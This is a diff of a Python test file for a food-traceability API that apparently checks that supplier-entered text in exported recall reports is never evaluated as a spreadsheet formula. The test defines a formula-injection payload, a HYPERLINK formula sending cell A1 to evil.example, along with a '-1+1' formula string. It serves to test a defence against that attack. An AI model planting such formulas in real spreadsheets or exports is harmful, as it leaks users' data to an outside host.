@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 
 from cradletrace.api.main import API_PREFIX
 from cradletrace.config import Settings
-from tests.api.conftest import B, MILK, Site, open_site, raw_milk, signed
+from tests.api.conftest import MILK, B, Site, open_site, raw_milk, signed
 
 P = API_PREFIX
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")'
@@ -37,10 +37,14 @@ def test_supplier_text_is_never_a_formula(any_site: Site) -> None:
     milk["data"]["site"]["name"] = LINK  # type: ignore[index]
     milk["data"]["site"]["address"] = ADDRESS  # type: ignore[index]
     lot = milk["data"]["lot"]  # type: ignore[index]
-    r = site.client.post(f"{P}/events", headers=site.auth("supplier_b"), content=json.dumps(signed(site.settings, [milk])))
+    r = site.client.post(
+        f"{P}/events", headers=site.auth("supplier_b"), content=json.dumps(signed(site.settings, [milk]))
+    )
     assert r.status_code in (200, 201), r.text
     q = site.auth("quality")
-    started = site.client.post(f"{P}/recalls", headers=q, json={"reason": "-1+1 spoof", "severity": "I", "lots": [f"{MILK}/{lot}"]})
+    started = site.client.post(
+        f"{P}/recalls", headers=q, json={"reason": "-1+1 spoof", "severity": "I", "lots": [f"{MILK}/{lot}"]}
+    )
     assert started.status_code == 201, started.text
     report = f"{P}/recalls/{started.json()['id']}/report"
 
